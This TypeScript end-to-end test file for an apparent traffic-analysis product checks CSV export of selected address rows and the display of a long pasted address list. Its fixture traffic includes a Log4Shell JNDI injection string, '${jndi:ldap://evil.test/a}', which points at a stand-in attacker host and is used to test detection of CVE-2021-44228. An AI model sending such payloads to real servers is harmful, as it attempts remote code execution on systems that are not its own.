import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { readFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { entitlementIds } from '#model/entitlements.ts'
import { makePerson } from '../api/account-browser.ts'
import { captureOf, upload, waitUntilIdle, webVisit } from '../product/captures.ts'
import { type Inside, openInside } from '../product/inside.ts'
import { analyze, part, rows } from './analyses.ts'
import { openBrowser } from './open.ts'
import { signIn } from './sign-in.ts'
import { alive, visit } from './visitor.ts'

/** What is done with rows of a list, under a plan whose searches reach one day back. */

const folder = mkdtempSync(join(tmpdir(), 'noisefloor-rows-of-list-'))
const seen = { today: '198.18.9.1', before: '198.18.9.2' }
const busy = '198.18.129.133'
let product: Inside
let browser: Browser

beforeAll(async () => {
  const PLANS_FILE = join(folder, 'plans.json')
  writeFileSync(
    PLANS_FILE,
    JSON.stringify({ offerings: { enterprise: { entitlements: entitlementIds, historicDays: 1 } } }),
  )
  ;[product, browser] = await Promise.all([openInside({ PLANS_FILE }), openBrowser()])
  const now = Date.now()
  const visits = [
    webVisit(seen.before, { uri: '/' }, now - 3 * 86_400_000),
    webVisit(seen.today, { uri: '/' }, now - 60_000),
    ...[10_250, 18_080, 28_443].map((destinationPort, at) => ({
      ...webVisit(busy, { uri: '/?x=${jndi:ldap://evil.test/a}' }, now - 50_000 - at * 1000),
      destinationPort,
    })),
  ]
  for (const one of visits) await upload(product, captureOf([one]))
  await waitUntilIdle(product)
  await makePerson(product, { email: 'ada@example.org' })
})
afterAll(async () => {
  await browser?.close()
  await product?.close()
  rmSync(folder, { recursive: true, force: true })
})

test('a file of the rows that are selected holds them all, also those that no search of the plan reaches', async () => {
  const visitor = await visit(browser, product.url)
  const { page, problems, leave } = visitor
  await signIn(visitor, 'ada@example.org')
  await page.goto('/ip/analysis')
  await alive(page)
  await page.getByLabel('Addresses, or any text that holds them').fill(Object.values(seen).join('\n'))
  await analyze(page).click()
  await page.waitForURL('**/ip/analysis/*')
  await part(page, /^All 2/).waitFor()
  await expect.poll(() => rows(page).count()).toBe(2)
  await page.getByRole('checkbox', { name: 'Select all rows' }).check()
  const selected = page.getByRole('region', { name: 'Selected rows' })
  await selected.getByText('2 rows selected').waitFor()
  const [csv] = await Promise.all([
    page.waitForEvent('download'),
    selected.getByRole('link', { name: 'Export CSV' }).click(),
  ])
  const lines = (await readFile(await csv.path(), 'utf8')).trim().split('\r\n')
  expect(lines.map((line) => line.split(',')[0])).toEqual(['ip', seen.today, seen.before])
  expect(problems).toEqual([])
  await leave()
})

test('a desk shows the table of a list whole, with where each address stood in it', async () => {
  const visitor = await visit(browser, product.url)
  const { page, problems, leave } = visitor
  await signIn(visitor, 'ada@example.org')
  await page.goto('/ip/analysis')
  await alive(page)
  const lines = [...Array.from({ length: 1200 }, () => '-'), busy, busy, busy, ...Object.values(seen)]
  await page.getByLabel('Addresses, or any text that holds them').fill(lines.join('\n'))
  await analyze(page).click()
  await page.waitForURL('**/ip/analysis/*')
  await part(page, /^All 3/).waitFor()
  await rows(page).getByText('3 times, first in line 1,201', { exact: true }).waitFor()
  await rows(page).getByRole('link', { name: 'CVE-2021-44228' }).waitFor()
  const table = page.getByRole('region', { name: 'Addresses found' })
  expect(await table.evaluate(({ scrollWidth, clientWidth }) => scrollWidth - clientWidth)).toBe(0)
  await leave()
  expect(problems).toEqual([])
})
